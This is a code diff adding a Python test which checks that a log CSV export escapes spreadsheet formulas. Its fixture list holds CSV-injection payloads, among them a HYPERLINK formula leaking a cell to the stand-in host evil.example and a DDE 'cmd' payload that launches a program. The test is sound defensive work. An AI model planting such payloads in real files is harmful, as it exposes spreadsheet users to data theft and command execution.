@@ -74,3 +74,24 @@ def test_failed_records(db):
     assert failed.total == 2
     assert set(failed.rows["kind"]) == {"reservation", "guest"}
     assert "Joko Widodo" in set(failed.rows["name"])
+
+
+def test_csv_export_neutralises_spreadsheet_formulas(db):
+    hostile = [
+        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    with db.begin() as conn:
+        for i, text in enumerate(hostile):
+            api_call(conn, NOW - timedelta(seconds=i), status=500, error=text)
+        api_call(conn, NOW - timedelta(minutes=5), status=500, error="plain error - not a formula")
+    data = logs.export_csv(db, "api", PID, LogFilter(problems_only=True))
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    errors = {r["error"] for r in rows}
+    assert errors == {"'" + text for text in hostile} | {"plain error - not a formula"}
+    # Numbers stay numbers (a status code is not text from outside).
+    assert {r["http_status"] for r in rows} == {"500"}
